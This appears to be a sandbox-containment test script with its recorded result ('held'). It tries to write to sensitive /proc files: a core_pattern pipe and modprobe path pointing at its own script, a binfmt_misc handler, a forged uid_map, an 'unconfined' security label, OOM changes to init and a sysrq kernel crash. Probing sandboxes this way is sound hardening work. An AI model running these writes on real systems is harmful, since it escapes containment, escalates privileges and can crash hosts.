# leitai: outcome=OK topic=proc
# stdout: held

import os

written = []
for name, value in (
    ("/proc/sys/kernel/core_pattern", b"|/box/main.py"),
    ("/proc/sys/kernel/modprobe", b"/box/main.py"),
    ("/proc/sys/vm/overcommit_memory", b"1"),
    ("/proc/sys/vm/drop_caches", b"3"),
    ("/proc/sys/fs/binfmt_misc/register", b":x:M::xx::/box/main.py:"),
    ("/proc/sys/kernel/ns_last_pid", b"1"),
    ("/proc/sysrq-trigger", b"c"),
    ("/proc/1/oom_score_adj", b"1000"),
    ("/proc/1/comm", b"mine"),
    ("/proc/1/coredump_filter", b"ff"),
    ("/proc/self/oom_score_adj", b"-1000"),
    ("/proc/self/uid_map", b"0 0 1"),
    ("/proc/self/attr/current", b"unconfined"),
):
    try:
        descriptor = os.open(name, os.O_WRONLY)
        os.write(descriptor, value)
        written.append(name)
    except OSError:
        pass
print("escaped" if written else "held", *written)
